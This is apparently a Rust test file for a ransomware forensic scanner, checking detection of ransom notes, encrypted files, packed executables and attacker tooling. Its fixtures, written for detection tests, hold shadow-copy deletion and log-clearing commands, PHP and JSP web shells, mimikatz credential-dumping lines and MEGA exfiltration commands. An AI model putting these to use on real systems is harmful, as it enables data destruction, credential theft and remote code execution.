//! `shodo scan`: bundled rules on notes and scripts the test writes, third-party rule
//! directories with a broken file, size caps, output formats and exit codes.

use std::fs;
use std::path::Path;

use serde_json::Value;

use crate::helpers::{document, encrypt, shodo};

fn write(root: &Path, rel: &str, bytes: &[u8]) {
    let p = root.join(rel);
    fs::create_dir_all(p.parent().unwrap()).unwrap();
    fs::write(p, bytes).unwrap();
}

fn scan_json(args: &[&str], paths: &[&Path]) -> (i32, Value, String) {
    let out = shodo().args(["scan", "--json"]).args(args).args(paths).output().unwrap();
    let json = serde_json::from_slice(&out.stdout).unwrap_or(Value::Null);
    (out.status.code().unwrap(), json, String::from_utf8_lossy(&out.stderr).into_owned())
}

fn rules_hit(json: &Value, file: &str) -> Vec<String> {
    json["events"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["event"] == "hit" && e["path"].as_str().is_some_and(|p| p.ends_with(file)))
        .map(|e| e["rule"].as_str().unwrap().to_string())
        .collect()
}

fn notes(dir: &Path) {
    let onion = "a".repeat(56);
    write(dir, "en/README.txt", format!("Your files have been encrypted.\nTo decrypt them, install Tor Browser and open http://{onion}.onion\nDo not rename files.\n").as_bytes());
    write(
        dir,
        "ja/読んでください.txt",
        "あなたのファイルは暗号化されました。\n復号するにはビットコインで支払ってください。\n".as_bytes(),
    );
    let utf16: Vec<u8> = "ファイルは暗号化されました。復号にはビットコインが必要です。"
        .encode_utf16()
        .flat_map(u16::to_le_bytes)
        .collect();
    write(dir, "ja/note_utf16.txt", &utf16);
    write(dir, "tools/cleanup.bat", b"@echo off\r\nvssadmin delete shadows /all /quiet\r\nwevtutil cl Security\r\n");
    write(
        dir,
        "benign/minutes.txt",
        "会議の議事録: バックアップは暗号化して保管すること。\nPlease encrypt the backups.\n".as_bytes(),
    );
}

#[test]
fn bundled_rules_find_notes_and_tools_but_not_ordinary_text() {
    let tmp = tempfile::tempdir().unwrap();
    notes(tmp.path());
    let (code, json, _) = scan_json(&[], &[tmp.path()]);
    assert_eq!(code, 1, "hits mean exit 1: {json}");
    assert!(rules_hit(&json, "en/README.txt").contains(&"shodo_ransom_note_en".to_string()));
    assert!(rules_hit(&json, "en/README.txt").contains(&"shodo_ransom_contact_points".to_string()));
    assert!(rules_hit(&json, "読んでください.txt").contains(&"shodo_ransom_note_ja".to_string()));
    assert!(rules_hit(&json, "note_utf16.txt").contains(&"shodo_ransom_note_ja".to_string()));
    let tools = rules_hit(&json, "cleanup.bat");
    assert!(
        tools.contains(&"shodo_shadow_copy_deletion".to_string()) && tools.contains(&"shodo_log_clearing".to_string()),
        "{tools:?}"
    );
    assert!(rules_hit(&json, "minutes.txt").is_empty());
    let hit = json["events"].as_array().unwrap().iter().find(|e| e["event"] == "hit").unwrap();
    for key in ["description_ja", "description_en", "severity", "category", "family", "reference"] {
        assert!(hit["meta"][key].is_string(), "meta {key} missing: {hit}");
    }
    let (code, _, _) = scan_json(&[], &[&tmp.path().join("benign")]);
    assert_eq!(code, 0);
}

#[test]
fn a_broken_rule_file_is_named_and_the_rest_still_load() {
    let tmp = tempfile::tempdir().unwrap();
    notes(tmp.path());
    let rules = tmp.path().join("rules");
    write(&rules, "vendor/broken.yar", b"rule broken {\n  condition:\n    and\n}\n");
    // Third-party rules expect external variables such as `filename`.
    write(
        &rules,
        "vendor/by_name.yar",
        b"rule minutes_by_name { condition: filename == \"minutes.txt\" and extension == \"txt\" }\n",
    );
    let (code, json, stderr) =
        scan_json(&["--no-bundled", "--rules", rules.to_str().unwrap()], &[&tmp.path().join("benign")]);
    assert_eq!(code, 1, "{stderr}");
    assert!(stderr.contains("broken.yar:3:"), "the failing file and line are named: {stderr}");
    assert_eq!(json["rule_errors"][0]["file"].as_str().map(|f| f.ends_with("broken.yar")), Some(true));
    assert_eq!(rules_hit(&json, "minutes.txt"), vec!["minutes_by_name".to_string()]);
}

#[test]
fn files_over_the_size_cap_are_recorded_as_skipped() {
    let tmp = tempfile::tempdir().unwrap();
    write(tmp.path(), "big.bin", &vec![b'A'; 4096]);
    write(tmp.path(), "small.txt", b"hello");
    let (code, json, _) = scan_json(&["--max-size", "1024"], &[tmp.path()]);
    assert_eq!(code, 0);
    let skip = json["events"].as_array().unwrap().iter().find(|e| e["event"] == "skip").unwrap();
    assert_eq!(
        (skip["reason"].as_str(), skip["path"].as_str().map(|p| p.ends_with("big.bin"))),
        (Some("too_large"), Some(true))
    );
    assert_eq!((json["summary"]["scanned"].as_u64(), json["summary"]["skipped"].as_u64()), (Some(1), Some(1)));
}

#[test]
fn ndjson_is_one_event_per_line() {
    let tmp = tempfile::tempdir().unwrap();
    notes(tmp.path());
    let out = shodo().args(["scan", "--ndjson"]).arg(tmp.path()).output().unwrap();
    assert_eq!(out.status.code(), Some(1));
    let text = String::from_utf8(out.stdout).unwrap();
    assert!(text.lines().count() >= 5);
    for line in text.lines() {
        let e: Value = serde_json::from_str(line).unwrap();
        assert!(e["event"] == "hit" || e["event"] == "skip", "{line}");
    }
}

#[test]
fn compiled_rules_are_cached_and_reused() {
    let tmp = tempfile::tempdir().unwrap();
    notes(tmp.path());
    let cache = tmp.path().join("cache");
    let first = scan_json(&["--cache", cache.to_str().unwrap()], &[&tmp.path().join("en")]);
    let cached: Vec<_> = fs::read_dir(&cache).unwrap().flatten().collect();
    assert_eq!(cached.len(), 1, "one compiled rule set in the cache");
    let second = scan_json(&["--cache", cache.to_str().unwrap()], &[&tmp.path().join("en")]);
    assert_eq!(
        (first.1["rules"]["cached"].as_bool(), second.1["rules"]["cached"].as_bool()),
        (Some(false), Some(true))
    );
    assert_eq!((first.0, rules_hit(&first.1, "README.txt")), (second.0, rules_hit(&second.1, "README.txt")));
}

#[test]
fn collected_evidence_is_scanned_into_findings_with_the_notes_contact_points() {
    let tmp = tempfile::tempdir().unwrap();
    let src = tmp.path().join("src");
    let onion = "c".repeat(56);
    write(&src, "Windows/System32/config/SYSTEM", b"regf");
    write(&src, "Users/yamada/Desktop/README_RESTORE.txt", format!("Your files have been encrypted by LockBit.\nTo decrypt, contact us: restore@onionmail.example or http://{onion}.onion\n").as_bytes());
    write(&src, "Users/yamada/AppData/Local/Temp/stop.bat", b"vssadmin delete shadows /all /quiet\r\n");
    let case = tmp.path().join("case");
    shodo().args(["case", "init", "--case"]).arg(&case).assert().success();
    shodo().args(["collect", "--endpoint", "pc-20", "--case"]).arg(&case).arg("--source").arg(&src).assert().code(0);
    let out = shodo().args(["scan", "--json", "--endpoint", "pc-20", "--case"]).arg(&case).output().unwrap();
    assert_eq!(out.status.code(), Some(1), "{}", String::from_utf8_lossy(&out.stderr));
    let result: Value = serde_json::from_slice(&out.stdout).unwrap();
    let note = &result["notes"][0];
    assert_eq!(note["path"], "Users/yamada/Desktop/README_RESTORE.txt");
    assert_eq!(note["iocs"]["onion"][0], format!("{onion}.onion"));
    assert_eq!(note["iocs"]["email"][0], "restore@onionmail.example");
    assert_eq!(
        (result["families"][0]["family"].as_str(), result["families"][0]["confidence"].as_str()),
        (Some("LockBit"), Some("high"))
    );
    let findings = fs::read_to_string(case.join("endpoints/pc-20/findings.jsonl")).unwrap();
    let records: Vec<Value> = findings.lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    assert!(records.iter().all(|r| r["v"] == 1));
    assert!(
        records
            .iter()
            .any(|r| r["rule"] == "shodo_shadow_copy_deletion"
                && r["path"] == "Users/yamada/AppData/Local/Temp/stop.bat")
    );
    let (code, report) = crate::helpers::verify(&case);
    assert_eq!(code, 0, "findings.jsonl is vouched for by the custody log: {report}");
    let custody = fs::read_to_string(case.join("custody.jsonl")).unwrap();
    assert!(custody.lines().any(|l| l.contains(r#""action":"scan.finish""#)));
}

#[test]
fn an_archived_file_changed_after_collection_is_not_scanned_as_evidence() {
    let tmp = tempfile::tempdir().unwrap();
    let src = tmp.path().join("src");
    write(&src, "Windows/System32/config/SYSTEM", b"regf");
    write(&src, "Users/a/Desktop/README.txt", b"Your files have been encrypted. To decrypt them pay in bitcoin.\n");
    let case = tmp.path().join("case");
    shodo().args(["case", "init", "--case"]).arg(&case).assert().success();
    shodo().args(["collect", "--endpoint", "pc-21", "--case"]).arg(&case).arg("--source").arg(&src).assert().code(0);
    let zip = case.join("endpoints/pc-21/evidence-0001.zip");
    let mut bytes = fs::read(&zip).unwrap();
    let at = bytes.windows(9).position(|w| w == b"encrypted").unwrap();
    bytes[at] = b'E';
    fs::write(&zip, bytes).unwrap();
    let out = shodo().args(["scan", "--json", "--endpoint", "pc-21", "--case"]).arg(&case).output().unwrap();
    let result: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert!(result["notes"].as_array().unwrap().is_empty(), "{result}");
    let findings = fs::read_to_string(case.join("endpoints/pc-21/findings.jsonl")).unwrap();
    let skip: Value = findings
        .lines()
        .map(|l| serde_json::from_str::<Value>(l).unwrap())
        .find(|r| r["path"] == "Users/a/Desktop/README.txt")
        .unwrap();
    assert_eq!(skip["kind"], "scan_skip");
    assert!(matches!(skip["reason"].as_str(), Some("evidence_mismatch" | "unreadable")), "{skip}");
    assert_eq!(crate::helpers::verify(&case).0, 1, "verify names the changed archive too");
}

#[test]
fn files_encrypted_with_a_real_cipher_are_found_and_benign_compressed_files_are_not() {
    let tmp = tempfile::tempdir().unwrap();
    let d = tmp.path();
    // Fully encrypted, family extension appended.
    let mut a = document(3000);
    encrypt(&mut a, None);
    write(d, "share/受付/記録.xlsx.akira", &a);
    // Fully encrypted in place: the extension promises a JPEG header that is gone.
    let mut b = vec![0xFF, 0xD8, 0xFF, 0xE0];
    b.extend(document(2000));
    encrypt(&mut b, None);
    write(d, "share/photos/scan.jpg", &b);
    // Intermittent: only the first 64 KiB of a large text file.
    let mut c = document(8000);
    encrypt(&mut c, Some(64 * 1024));
    write(d, "share/logs/records.csv", &c);
    // Benign: a real zip of random data, and a JPEG-headed high-entropy file.
    let zip_path = d.join("share/archive.zip");
    let mut z = zip::ZipWriter::new(fs::File::create(&zip_path).unwrap());
    z.start_file(
        "noise.bin",
        zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Stored),
    )
    .unwrap();
    let mut noise = vec![0u8; 200_000];
    encrypt(&mut noise, None);
    std::io::Write::write_all(&mut z, &noise).unwrap();
    z.finish().unwrap();
    let mut jpeg = vec![0xFF, 0xD8, 0xFF, 0xE0];
    jpeg.extend(&noise);
    write(d, "share/photos/real.jpg", &jpeg);
    write(d, "share/受付/plain.csv", &document(3000));
    let (code, json, _) = scan_json(&[], &[&d.join("share")]);
    assert_eq!(code, 1);
    let flagged: std::collections::BTreeMap<String, Value> = json["events"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["event"] == "encrypted")
        .map(|e| (e["path"].as_str().unwrap().rsplit('/').next().unwrap().to_string(), e["assessment"].clone()))
        .collect();
    assert_eq!(
        flagged.keys().cloned().collect::<Vec<_>>(),
        vec!["records.csv", "scan.jpg", "記録.xlsx.akira"],
        "{json}"
    );
    assert_eq!(flagged["記録.xlsx.akira"]["reasons"][0], "known_extension");
    assert_eq!(flagged["scan.jpg"]["reasons"][0], "format_lost");
    // Its head is no longer text (the format it lost), and one window is random in a text file.
    assert_eq!(flagged["records.csv"]["reasons"], serde_json::json!(["format_lost", "random_in_text"]));
    assert_eq!(flagged["records.csv"]["intermittent"], true);
}

/// Files of the formats a hospital keeps, made by the tools that make them (SQLite, qemu-img's
/// VHD/VHDX/VMDK, zip, gzip, Shift-JIS and UTF-8 CSV), encrypted whole or in their first 4 KiB with
/// a real cipher and renamed with an extension no list knows: each is found by the format it lost.
/// The same files intact, under their names or with `.bak` added, are not.
#[test]
fn formats_lost_under_an_extension_no_list_knows_are_found_and_intact_ones_are_not() {
    let tmp = tempfile::tempdir().unwrap();
    let made = tmp.path().join("made");
    fs::create_dir_all(&made).unwrap();
    let db = made.join("受付.sqlite");
    let sql = "CREATE TABLE patient(id INTEGER PRIMARY KEY, name TEXT, dept TEXT);".to_string()
        + &(0..400).map(|i| format!("INSERT INTO patient VALUES({i}, '患者{i}', '内科');")).collect::<String>();
    crate::helpers::sh("sqlite3", &[db.to_str().unwrap(), &sql]);
    for (name, format, extra) in
        [("disk.vhd", "vpc", "subformat=dynamic"), ("disk.vhdx", "vhdx", ""), ("disk.vmdk", "vmdk", "")]
    {
        let path = made.join(name);
        let mut args = vec!["create", "-q", "-f", format];
        if !extra.is_empty() {
            args.extend(["-o", extra]);
        }
        args.extend([path.to_str().unwrap(), "16M"]);
        crate::helpers::sh("qemu-img", &args);
    }
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    std::io::Write::write_all(&mut gz, &document(200)).unwrap();
    fs::write(made.join("records.gz"), gz.finish().unwrap()).unwrap();
    let zip_path = made.join("紹介状.docx");
    let mut z = zip::ZipWriter::new(fs::File::create(&zip_path).unwrap());
    z.start_file("word/document.xml", zip::write::SimpleFileOptions::default()).unwrap();
    std::io::Write::write_all(&mut z, &document(300)).unwrap();
    z.finish().unwrap();
    let csv = "患者ID,氏名\r\n0001,山田 太郎\r\n0002,佐藤 花子\r\n".repeat(6);
    fs::write(made.join("small.csv"), csv.as_bytes()).unwrap();
    fs::write(made.join("small-sjis.csv"), encoding_rs::SHIFT_JIS.encode(&csv).0).unwrap();
    assert!(csv.len() < 1024, "a small file: {}", csv.len());

    let share = tmp.path().join("share");
    let mut expected = Vec::new();
    for entry in fs::read_dir(&made).unwrap() {
        let entry = entry.unwrap();
        let name = entry.file_name().to_string_lossy().to_string();
        let plain = fs::read(entry.path()).unwrap();
        write(&share, &format!("kept/{name}"), &plain);
        write(&share, &format!("kept/{name}.bak"), &plain);
        let mut whole = plain.clone();
        encrypt(&mut whole, None);
        write(&share, &format!("whole/{name}.8f3kq"), &whole);
        expected.push(format!("whole/{name}.8f3kq"));
        if plain.len() > 8192 {
            let mut head = plain;
            encrypt(&mut head, Some(4096));
            write(&share, &format!("head/{name}.8f3kq"), &head);
            expected.push(format!("head/{name}.8f3kq"));
        }
    }
    expected.sort();
    let (_, json, _) = scan_json(&[], &[&share]);
    let flagged: std::collections::BTreeMap<String, Value> = json["events"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["event"] == "encrypted")
        .map(|e| {
            let path = e["path"].as_str().unwrap();
            (path[path.find("share/").map_or(0, |i| i + 6)..].to_string(), e["assessment"].clone())
        })
        .collect();
    assert_eq!(flagged.keys().cloned().collect::<Vec<_>>(), expected, "{json}");
    for (path, a) in &flagged {
        assert!(a["reasons"].as_array().unwrap().contains(&"format_lost".into()), "{path}: {a}");
        assert_eq!(a["appended"], "8f3kq", "{path}: {a}");
    }
    assert_eq!(flagged["whole/受付.sqlite.8f3kq"]["format"], "sqlite");
    assert_eq!(flagged["head/disk.vhdx.8f3kq"]["format"], "vhdx");
    assert_eq!(flagged["whole/small-sjis.csv.8f3kq"]["format"], "text");
}

/// A minimal PE32+ image with one executable section named `section` holding `code`.
fn minimal_pe(section: &[u8; 8], code: &[u8; 512], timestamp: u32) -> Vec<u8> {
    let mut pe = vec![0u8; 0x200];
    pe[..2].copy_from_slice(b"MZ");
    pe[0x3C] = 0x40;
    let mut h = b"PE\0\0".to_vec();
    h.extend(0x8664u16.to_le_bytes());
    h.extend(1u16.to_le_bytes());
    h.extend(timestamp.to_le_bytes());
    h.extend([0u8; 8]);
    h.extend(0xF0u16.to_le_bytes());
    h.extend(0x22u16.to_le_bytes());
    let mut opt = Vec::new();
    opt.extend(0x20Bu16.to_le_bytes());
    opt.extend([14u8, 0]);
    for v in [0x200u32, 0, 0, 0x1000, 0x1000] {
        opt.extend(v.to_le_bytes());
    }
    opt.extend(0x1_4000_0000u64.to_le_bytes());
    for v in [0x1000u32, 0x200] {
        opt.extend(v.to_le_bytes());
    }
    for v in [6u16, 0, 0, 0, 6, 0] {
        opt.extend(v.to_le_bytes());
    }
    for v in [0u32, 0x2000, 0x200, 0] {
        opt.extend(v.to_le_bytes());
    }
    opt.extend(3u16.to_le_bytes());
    opt.extend(0x8160u16.to_le_bytes());
    for v in [0x10_0000u64, 0x1000, 0x10_0000, 0x1000] {
        opt.extend(v.to_le_bytes());
    }
    opt.extend(0u32.to_le_bytes());
    opt.extend(16u32.to_le_bytes());
    opt.extend([0u8; 128]);
    assert_eq!(opt.len(), 0xF0);
    h.extend(opt);
    h.extend(section);
    for v in [0x200u32, 0x1000, 0x200, 0x200, 0, 0] {
        h.extend(v.to_le_bytes());
    }
    h.extend([0u8; 4]);
    h.extend(0x6000_0020u32.to_le_bytes());
    pe[0x40..0x40 + h.len()].copy_from_slice(&h);
    pe.extend(code);
    pe
}

#[test]
fn executables_get_their_facts_and_malformed_ones_are_findings() {
    let tmp = tempfile::tempdir().unwrap();
    let d = tmp.path();
    let mut packed = [0u8; 512];
    encrypt(&mut packed, None);
    write(d, "AppData/Local/Temp/svc.exe", &minimal_pe(b"UPX1\0\0\0\0", &packed, 1_716_101_927));
    let mut broken = minimal_pe(b".text\0\0\0", &[0xC3; 512], 0);
    broken.truncate(0x60);
    write(d, "AppData/Local/Temp/broken.exe", &broken);
    fs::copy("/bin/ls", d.join("ls")).unwrap();
    let (_, json, _) = scan_json(&[], &[d]);
    let exe = |name: &str| {
        json["events"]
            .as_array()
            .unwrap()
            .iter()
            .find(|e| e["event"] == "executable" && e["path"].as_str().unwrap().ends_with(name))
            .cloned()
            .unwrap_or_else(|| panic!("{name}: {json}"))
    };
    let svc = exe("svc.exe");
    assert_eq!(svc["facts"]["arch"], "x86_64");
    assert_eq!(svc["facts"]["compiled"], "2024-05-19T06:58:47.000000Z");
    let hints = svc["facts"]["packer_hints"].as_array().unwrap();
    assert!(
        hints.iter().any(|h| h == "UPX")
            && hints.iter().any(|h| h.as_str().unwrap().starts_with("high-entropy code section")),
        "{svc}"
    );
    assert!(exe("broken.exe")["malformed"].is_string());
    let ls = exe("ls");
    assert_eq!(ls["facts"]["format"], "elf");
    assert!(ls["facts"]["interpreter"].as_str().is_some_and(|i| i.contains("ld-linux")), "{ls}");
    assert!(ls["facts"]["needed"].as_array().unwrap().iter().any(|l| l == "libc.so.6"));
}

#[test]
fn hack_tools_exfiltration_configs_and_web_shells_are_found() {
    let tmp = tempfile::tempdir().unwrap();
    let d = tmp.path();
    write(
        d,
        "Users/a/AppData/Roaming/rclone/rclone.conf",
        b"[mega]\ntype = mega\nuser = leak@example.org\npass = abcdef\n",
    );
    write(d, "var/www/html/up.php", b"<?php @eval(base64_decode($_POST['x'])); ?>");
    write(d, "var/www/html/cmd.jsp", b"<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>");
    write(d, "tools/m.txt", b"privilege::debug\r\nsekurlsa::logonpasswords\r\nexit\r\n");
    write(d, "var/www/html/index.php", b"<?php echo htmlspecialchars($_GET['q']); ?>");
    write(d, "Users/a/AppData/Roaming/rclone/notes.ini", b"[section]\nname = value\n");
    // A beacon's configuration block as version 4 stores it (XOR 0x2e), inside filler bytes.
    let mut beacon = vec![0x90u8; 4096];
    let config: Vec<u8> = [0u8, 1, 0, 1, 0, 2, 0, 1, 0, 2, 0, 1, 0, 2, 0x01, 0xBB].iter().map(|b| b ^ 0x2e).collect();
    beacon[1000..1016].copy_from_slice(&config);
    write(d, "ProgramData/svc.bin", &beacon);
    let mut almost = beacon.clone();
    almost[1002] ^= 0xFF;
    write(d, "ProgramData/other.bin", &almost);
    write(
        d,
        "tools/exfil.bat",
        b"mega-login leak@example.org pw
mega-put C:\\share\\records /backup
rem mega.nz
",
    );
    write(d, "tools/scan.xml", b"<!-- SoftPerfect Network Scanner -->\n<hosts/>\n");
    let (_, json, _) = scan_json(&[], &[d]);
    assert_eq!(rules_hit(&json, "rclone.conf"), vec!["shodo_exfiltration_rclone_config".to_string()]);
    assert_eq!(rules_hit(&json, "up.php"), vec!["shodo_webshell_php".to_string()]);
    assert_eq!(rules_hit(&json, "cmd.jsp"), vec!["shodo_webshell_aspx_jsp".to_string()]);
    assert_eq!(rules_hit(&json, "m.txt"), vec!["shodo_credential_dumper".to_string()]);
    assert!(rules_hit(&json, "index.php").is_empty() && rules_hit(&json, "notes.ini").is_empty());
    assert_eq!(rules_hit(&json, "svc.bin"), vec!["shodo_beacon_cobalt_strike".to_string()]);
    assert!(rules_hit(&json, "other.bin").is_empty(), "one byte off the configuration layout is no beacon");
    assert_eq!(rules_hit(&json, "exfil.bat"), vec!["shodo_exfiltration_mega_cli".to_string()]);
    assert_eq!(rules_hit(&json, "scan.xml"), vec!["shodo_network_scanner".to_string()]);
}

fn set_mtime(path: &Path, rfc3339: &str) {
    let t = chrono::DateTime::parse_from_rfc3339(rfc3339).unwrap();
    let f = fs::File::options().write(true).open(path).unwrap();
    f.set_modified(std::time::SystemTime::from(t)).unwrap();
}

#[test]
fn notes_found_by_name_and_the_first_suspicious_executable_are_in_the_findings() {
    let tmp = tempfile::tempdir().unwrap();
    let src = tmp.path().join("src");
    write(&src, "Windows/System32/config/SYSTEM", b"regf");
    // A note only its name gives away (the content is a bare contact line no rule matches).
    write(
        &src,
        "Users/yamada/Desktop/HOW_TO_RESTORE_FILES.hta",
        b"<html><body>mail: unlock@mailbox.example</body></html>",
    );
    write(
        &src,
        "Users/yamada/Desktop/!!!READ_ME_MEDUSA!!!.txt",
        b"Your files have been encrypted. To decrypt them pay in bitcoin. Do not rename files.\n",
    );
    write(&src, "Users/yamada/Desktop/shopping.txt", b"milk, eggs\n");
    let mut memo = document(20_000);
    encrypt(&mut memo, None);
    memo.extend(b"HERMES");
    write(&src, "Users/yamada/Desktop/memo.txt", &memo);
    let temp = "Users/yamada/AppData/Local/Temp";
    write(&src, &format!("{temp}/a.exe"), &minimal_pe(b".text\0\0\0", &[0xC3; 512], 1_700_000_000));
    write(&src, &format!("{temp}/b.exe"), &minimal_pe(b".text\0\0\0", &[0x90; 512], 1_700_000_100));
    set_mtime(&src.join(format!("{temp}/a.exe")), "2024-05-01T02:00:00Z");
    set_mtime(&src.join(format!("{temp}/b.exe")), "2024-05-03T02:00:00Z");
    let case = tmp.path().join("case");
    shodo().args(["case", "init", "--case"]).arg(&case).assert().success();
    shodo().args(["collect", "--endpoint", "pc-22", "--case"]).arg(&case).arg("--source").arg(&src).assert().code(0);
    let out = shodo().args(["scan", "--json", "--endpoint", "pc-22", "--case"]).arg(&case).output().unwrap();
    assert_eq!(out.status.code(), Some(1), "{}", String::from_utf8_lossy(&out.stderr));
    let result: Value = serde_json::from_slice(&out.stdout).unwrap();
    let notes = result["notes"].as_array().unwrap();
    let by_name = notes.iter().find(|n| n["path"] == "Users/yamada/Desktop/HOW_TO_RESTORE_FILES.hta").unwrap();
    assert!(by_name["rule"].is_null(), "found by its name alone: {by_name}");
    assert_eq!(by_name["iocs"]["email"][0], "unlock@mailbox.example");
    assert!(!notes.iter().any(|n| n["path"] == "Users/yamada/Desktop/shopping.txt"));
    assert!(
        result["families"].as_array().unwrap().iter().any(|f| f["family"] == "Medusa"),
        "the note's name names its family: {result}"
    );
    let ryuk = result["families"].as_array().unwrap().iter().find(|f| f["family"] == "Ryuk").unwrap();
    assert!(ryuk["reason"].as_str().unwrap().contains("HERMES"), "{ryuk}");
    let first = &result["first_suspicious_executable"];
    assert_eq!(first["path"], format!("{temp}/a.exe"), "{result}");
    assert_eq!(first["suspicious_executables"], 2);
    assert_eq!(first["why"][0]["location"], "user_appdata");
    if first["time_source"] == "modified" {
        assert!(first["time"].as_str().unwrap().starts_with("2024-05-01T02:00:00"), "{first}");
    }
    let findings = fs::read_to_string(case.join("endpoints/pc-22/findings.jsonl")).unwrap();
    let records: Vec<Value> = findings.lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    let medusa = records
        .iter()
        .find(|r| r["kind"] == "ransom_note_name" && r["path"] == "Users/yamada/Desktop/!!!READ_ME_MEDUSA!!!.txt")
        .unwrap();
    assert_eq!(medusa["content_match"], true);
    assert!(records.iter().any(|r| r["kind"] == "executable" && r["location"] == "user_appdata"));
    let custody = fs::read_to_string(case.join("custody.jsonl")).unwrap();
    assert!(custody.lines().any(|l| l.contains("first_suspicious_executable") && l.contains("a.exe")));
}

#[test]
fn yara_only_gives_the_same_rule_hits_and_nothing_else() {
    let tmp = tempfile::tempdir().unwrap();
    notes(tmp.path());
    let mut secret = document(200_000);
    encrypt(&mut secret, None);
    write(tmp.path(), "data/records.csv", &secret);
    write(tmp.path(), "Desktop/HOW_TO_DECRYPT.txt", b"see the other file\n");
    fs::copy("/bin/ls", tmp.path().join("ls")).unwrap();
    let (_, full, _) = scan_json(&[], &[tmp.path()]);
    let (code, only, _) = scan_json(&["--yara-only"], &[tmp.path()]);
    assert_eq!(code, 1);
    let kinds = |j: &Value| -> std::collections::BTreeSet<String> {
        j["events"].as_array().unwrap().iter().map(|e| e["event"].as_str().unwrap().to_string()).collect()
    };
    assert!(kinds(&full).is_superset(&["encrypted", "executable", "note_name"].map(String::from).into()));
    assert_eq!(kinds(&only), ["hit".to_string()].into());
    let hits = |j: &Value| -> Vec<(String, String)> {
        let mut v: Vec<_> = j["events"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|e| e["event"] == "hit")
            .map(|e| (e["path"].as_str().unwrap().to_string(), e["rule"].as_str().unwrap().to_string()))
            .collect();
        v.sort();
        v
    };
    assert_eq!(hits(&full), hits(&only));
}

#[test]
fn the_incident_extension_marks_every_file_and_the_note_in_every_encrypted_folder_is_found() {
    let tmp = tempfile::tempdir().unwrap();
    let share = tmp.path().join("share");
    // Three documents that lost their format under an extension no list knows…
    for d in ["外来", "病棟", "検査"] {
        let mut doc = crate::helpers::document(200);
        encrypt(&mut doc, None);
        write(&share, &format!("{d}/紹介状.docx.w7rx"), &doc);
        // … a note under a name no list knows, in each of their folders, that says little …
        write(&share, &format!("{d}/W7RX-INFO.txt"), b"Contact: restore-w7rx@example.org\r\n");
        // … and files too small, or of no format, to tell by themselves.
        write(&share, &format!("{d}/memo.csv.w7rx"), b"0001,\xe5\xb1\xb1\xe7\x94\xb0\r\n");
    }
    write(&share, "外来/readme-for-this-folder.txt", b"Contact: it-desk@example.org\r\n");
    // A Russian note in Windows-1251 and a French HTML one: read by their words.
    let (ru, _, _) = encoding_rs::WINDOWS_1251
        .encode("Все ваши файлы зашифрованы!\nДля расшифровки напишите нам и оплатите выкуп в биткоин.\n");
    write(&share, "外来/КАК_ВЕРНУТЬ.txt", &ru);
    write(
        &share,
        "病棟/lisez-moi.html",
        "<html><body><p>Vos fichiers ont &eacute;t&eacute; chiffr&eacute;s.</p><p>Pour les d&eacute;chiffrer, \
         contactez-nous&nbsp;: le paiement se fait en bitcoin.</p></body></html>"
            .as_bytes(),
    );
    let (code, json, err) = scan_json(&[], &[&share]);
    assert_eq!(code, 1, "{err}");
    let events = json["events"].as_array().unwrap();
    let rel = |e: &Value| {
        let p = e["path"].as_str().unwrap();
        p[p.find("share/").unwrap() + 6..].to_string()
    };
    let carried: Vec<String> = events
        .iter()
        .filter(|e| {
            e["event"] == "encrypted" && e["assessment"]["reasons"] == serde_json::json!(["incident_extension"])
        })
        .map(|e| {
            assert_eq!(e["assessment"]["appended"], "w7rx");
            rel(e)
        })
        .collect();
    assert_eq!(carried.len(), 3, "{carried:?}");
    assert!(carried.iter().all(|p| p.ends_with("memo.csv.w7rx")), "{carried:?}");
    let mut by_folders: Vec<String> =
        events.iter().filter(|e| e["event"] == "note_name" && e["folders"] == 3).map(rel).collect();
    by_folders.sort();
    assert_eq!(by_folders, ["外来/W7RX-INFO.txt", "検査/W7RX-INFO.txt", "病棟/W7RX-INFO.txt"]);
    assert_eq!(json["summary"]["encrypted"], 6, "{}", json["summary"]);
    let ru_hit = events.iter().find(|e| e["event"] == "hit" && rel(e) == "外来/КАК_ВЕРНУТЬ.txt").unwrap();
    assert_eq!(ru_hit["rule"], "shodo_ransom_note_phrases");
    assert_eq!((&ru_hit["meta"]["language"], &ru_hit["meta"]["encoding"]), (&"ru".into(), &"windows-1251".into()));
    assert_eq!(ru_hit["meta"]["category"], "ransom_note");
    assert_eq!(ru_hit["rule_file"], "rules/ransomware/note-phrases.toml");
    let fr_hit = events.iter().find(|e| e["event"] == "hit" && rel(e) == "病棟/lisez-moi.html").unwrap();
    assert_eq!((&fr_hit["meta"]["language"], &fr_hit["meta"]["markup"]), (&"fr".into(), &"html".into()));
}

#[test]
fn a_held_out_family_is_not_named_but_its_note_is_still_found_by_content() {
    let tmp = tempfile::tempdir().unwrap();
    let note = "~~~ LockBit 3.0 ~~~\nYour data are stolen and encrypted.\nThe data will be published on TOR website \
                if you do not pay the ransom.\nYou can contact us and decrypt one file for free.\n";
    write(tmp.path(), "Restore-My-Files.txt", note.as_bytes());
    let families = |json: &Value| -> Vec<String> {
        json["events"]
            .as_array()
            .unwrap()
            .iter()
            .flat_map(|e| e["attribution"].as_array().cloned().unwrap_or_default())
            .map(|a| a["family"].as_str().unwrap().to_string())
            .collect()
    };
    let is_note = |json: &Value| {
        json["events"].as_array().unwrap().iter().any(|e| e["event"] == "hit" && e["meta"]["category"] == "ransom_note")
    };
    let (_, known, _) = scan_json(&[], &[tmp.path()]);
    assert!(is_note(&known) && families(&known).contains(&"LockBit".to_string()), "{known}");
    let (code, held, err) = scan_json(&["--hold-out", "lockbit"], &[tmp.path()]);
    assert_eq!(code, 1, "{err}");
    assert!(is_note(&held), "{held}");
    assert_eq!(families(&held), Vec::<String>::new(), "{held}");
}

#[test]
fn encrypted_containers_are_said_apart_and_are_no_ransomware() {
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path().join("vols");
    fs::create_dir_all(&dir).unwrap();
    // A LUKS2 volume made by cryptsetup in a file (no device-mapper needed to format).
    let luks = dir.join("backup-volume.img");
    fs::File::create(&luks).unwrap().set_len(20 << 20).unwrap();
    let key = tmp.path().join("key");
